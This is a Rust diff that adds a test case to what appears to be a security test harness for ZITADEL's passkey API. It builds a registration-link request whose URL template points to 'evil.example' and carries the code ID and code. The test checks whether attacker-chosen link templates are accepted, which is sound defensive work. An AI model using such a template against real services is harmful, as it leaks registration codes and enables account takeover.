@@ -86,6 +86,12 @@ async fn provoked(row: &Row, protocol: Protocol) -> Option<Outcome> {
             let passlink = passlink.started().await;
             protocol.outcome(protocol.request(&passlink, &call)).await
         }
+        ("LINK-URLTemplate", _) => {
+            let passlink = passlink.started().await;
+            let ada = passlink.ada();
+            let call = create_link(&ada.id, "https://evil.example/?c={{.CodeID}}#{{.Code}}");
+            protocol.outcome(protocol.request(&passlink, &call).bearer_auth(ada.token)).await
+        }
         ("PASSKEY-NotFound", _) => {
             let (_passlink, request) = ready(passlink, protocol, &remove("unknown")).await;
             protocol.outcome(request).await
@@ -197,6 +203,19 @@ fn field(number: u8, octets: &[u8]) -> Vec<u8> {
     let mut length = Vec::new();
     prost::encoding::encode_varint(octets.len() as u64, &mut length);
     [&[number << 3 | 2][..], &length, octets].concat()
+}
+
+/// Mails the caller a link by a template.
+fn create_link(user: &str, url_template: &str) -> Call {
+    let path = format!("/v2/users/{user}/passkeys/registration_link");
+    Call {
+        rpc: "/zitadel.user.v2.UserService/CreatePasskeyRegistrationLink",
+        rest: (Method::POST, path.leak()),
+        json: json!({ "userId": user, "sendLink": { "urlTemplate": url_template } })
+            .to_string()
+            .into_bytes(),
+        proto: [field(1, user.as_bytes()), field(2, &field(1, url_template.as_bytes()))].concat(),
+    }
 }
 
 /// Removes a passkey of the caller.
